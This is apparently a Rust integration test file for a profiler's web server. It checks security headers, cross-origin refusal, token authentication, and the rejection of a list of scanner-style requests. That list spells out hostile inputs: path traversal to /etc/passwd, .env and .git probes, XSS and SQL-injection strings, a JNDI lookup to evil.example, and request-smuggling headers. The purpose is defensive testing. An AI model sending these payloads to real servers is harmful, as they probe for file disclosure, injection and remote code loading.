//! Requests of scanners, of other sites and of nobody in particular.

use profiler::serve::{Connections, Token};

use crate::client::{get, get_with, send};
use crate::{serving, usual};

/// What every answer has, whatever it is.
const ALWAYS: [(&str, &str); 6] = [
    ("x-content-type-options", "nosniff"),
    ("referrer-policy", "no-referrer"),
    ("cache-control", "no-store"),
    ("x-frame-options", "DENY"),
    ("cross-origin-resource-policy", "same-origin"),
    ("cross-origin-opener-policy", "same-origin"),
];

#[test]
fn every_answer_tells_browsers_to_be_strict() {
    let served = usual();
    for target in ["/", "/api/v1/status", "/nothing", "/api/v1/labels?x", "/api/v1/download?form=html"] {
        let answer = get(served.address, target);
        for (name, value) in ALWAYS {
            assert_eq!(answer.header(name), Some(value), "{target} {name}");
        }
        let policy = answer.header("content-security-policy").unwrap();
        assert!(policy.starts_with("default-src 'none'; ") && policy.contains("frame-ancestors 'none'"), "{policy}");
        assert!(!policy.contains("unsafe"), "{policy}");
        for name in ["access-control-allow-origin", "server", "set-cookie"] {
            assert_eq!(answer.header(name), None, "{target}");
        }
    }
}

/// One line each: a request as it goes over the wire, and the status of the answer; 0 where the connection is closed without one.
#[test]
fn a_scanners_requests_are_refused_and_the_next_one_is_answered() {
    let served = usual();
    let host = format!("Host: {}\r\n", served.address);
    let get = |target: &str| format!("GET {target} HTTP/1.1\r\n{host}\r\n").into_bytes();
    let long_target = format!("/api/v1/labels?where=pod={}", "a".repeat(20_000));
    let long_header = format!("GET / HTTP/1.1\r\n{host}X: {}\r\n\r\n", "a".repeat(20_000));
    let many_headers = format!("GET / HTTP/1.1\r\n{host}{}\r\n", "X: y\r\n".repeat(100));
    let smuggled = format!("GET / HTTP/1.1\r\n{host}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
    let posted = format!("POST /api/v1/status HTTP/1.1\r\n{host}Content-Length: 1000000000000\r\n\r\nx");
    let two_lengths = format!("GET / HTTP/1.1\r\n{host}Content-Length: 1\r\nContent-Length: 2\r\n\r\nx");
    let requests: &[(Vec<u8>, &[u16])] = &[
        (get("/../../../../etc/passwd"), &[404]),
        (get("/..%2f..%2fetc/passwd"), &[404]),
        (get("/api/v1/..;/status"), &[404]),
        (get("/.git/config"), &[404]),
        (get("/.env"), &[404]),
        (get("/wp-login.php"), &[404]),
        (get("/cgi-bin/.%2e/.%2e/bin/sh"), &[404]),
        (get("/actuator/health"), &[404]),
        (get("/debug/pprof/"), &[404]),
        (get("/api/v1/status%00"), &[404]),
        (get("/API/V1/STATUS"), &[404]),
        (get("/?x=<script>alert(1)</script>"), &[400]),
        (get("/?x=%3Cscript%3Ealert(1)%3C/script%3E"), &[200]),
        (get("/api/v1/values?label=<script>"), &[400]),
        (get("/api/v1/values?label=pod'%20OR%201=1--"), &[400]),
        (get("/api/v1/labels?from=1e9"), &[400]),
        (get("/api/v1/labels?from=0&to=9223372036854"), &[200]),
        (get("/api/v1/series?by=pod&from=0&to=9223372036854&steps=2000&limit=100"), &[200]),
        (get("/api/v1/labels?where=pod=%ff%fe%00"), &[200]),
        (get("/${jndi:ldap://evil.example/x}"), &[400, 404]),
        (get("http://evil.example/"), &[400]),
        (get("//evil.example/%2e%2e"), &[404]),
        (get(&long_target), &[414, 431]),
        (long_header.into_bytes(), &[431]),
        (many_headers.into_bytes(), &[431]),
        (posted.into_bytes(), &[405]),
        (smuggled.into_bytes(), &[400, 413]),
        (two_lengths.into_bytes(), &[400]),
        (format!("OPTIONS * HTTP/1.1\r\n{host}\r\n").into_bytes(), &[405]),
        (format!("TRACE / HTTP/1.1\r\n{host}\r\n").into_bytes(), &[405]),
        (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n".to_vec(), &[405]),
        (format!("PROPFIND / HTTP/1.1\r\n{host}Depth: 1\r\n\r\n").into_bytes(), &[405]),
        (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n".to_vec(), &[403]),
        (b"GET / HTTP/1.1\r\n\r\n".to_vec(), &[400]),
        (b"GET / HTTP/1.0\r\n\r\n".to_vec(), &[400]),
        (format!("GET / HTTP/1.1\r\n{host}{host}\r\n").into_bytes(), &[400]),
        (b"GET / HTTP/9.9\r\n\r\n".to_vec(), &[400, 0]),
        (b"GET /\r\n\r\n".to_vec(), &[400, 0]),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), &[400, 405, 0]),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(), &[400, 0]),
        (b"SSH-2.0-x\r\n".to_vec(), &[400, 0]),
        (b"\x00\x00\x00\x00\r\n\r\n".to_vec(), &[400, 0]),
        (b"GET / HTTP/1.1\r\nHost: \xff\r\n\r\n".to_vec(), &[400]),
        (b"GET / HTTP/1.1\r\nHost : localhost\r\n\r\n".to_vec(), &[400]),
        (b"GET / HTTP/1.1\r\nHo\rst: localhost\r\n\r\n".to_vec(), &[400]),
        (format!("GET /a b HTTP/1.1\r\n{host}\r\n").into_bytes(), &[400]),
    ];
    for (request, expected) in requests {
        let status = send(served.address, request).map_or(0, |answer| answer.status);
        assert!(
            expected.contains(&status),
            "{status}: {}",
            String::from_utf8_lossy(&request[..request.len().min(200)])
        );
    }
    assert_eq!(crate::client::get(served.address, "/api/v1/status").status, 200);
}

#[test]
fn other_sites_get_nothing() {
    let served = usual();
    for headers in ["Origin: http://evil.example\r\n", "Origin: null\r\n", "Sec-Fetch-Site: cross-site\r\n"] {
        for target in ["/api/v1/status", "/api/v1/download?form=pb.gz", "/api/v1/profile", "/"] {
            let answer = get_with(served.address, target, headers);
            assert_eq!(answer.status, 403, "{target} {headers}");
            assert!(answer.body.len() < 200);
        }
    }
}

#[test]
fn with_a_token_nothing_is_answered_without_it() {
    let token = Token::make();
    let secret = token.reveal().to_owned();
    let served = serving(3, Some(token), Connections::default());
    for target in
        ["/api/v1/status", "/api/v1/labels", "/api/v1/profile", "/api/v1/download?form=svg", "/x", "/?token=wrong"]
    {
        let answer = get(served.address, target);
        assert_eq!(answer.status, 401, "{target}");
        assert!(!String::from_utf8_lossy(&answer.body).contains("node-1"));
    }
    let asks = get(served.address, "/");
    assert_eq!((asks.status, asks.header("content-type")), (401, Some("text/html; charset=utf-8")));
    assert_eq!(get(served.address, "/api/v1/status").header("www-authenticate"), Some("Bearer"));

    let welcome = get(served.address, &format!("/?token={secret}"));
    assert_eq!((welcome.status, welcome.header("location")), (303, Some("/")));
    let cookie = welcome.header("set-cookie").unwrap();
    assert_eq!(cookie, format!("everflame={secret}; HttpOnly; SameSite=Strict; Path=/"));
    let pair = cookie.split(';').next().unwrap();
    assert_eq!(get_with(served.address, "/api/v1/status", &format!("Cookie: {pair}\r\n")).status, 200);
    let bearer = format!("Authorization: Bearer {secret}\r\n");
    assert_eq!(get_with(served.address, "/", &bearer).status, 200);
    // Whoever knows the token may call this machine what they like.
    let elsewhere = format!("GET / HTTP/1.1\r\nHost: node-7.example\r\nConnection: close\r\n{bearer}\r\n");
    assert_eq!(send(served.address, elsewhere.as_bytes()).unwrap().status, 200);
}
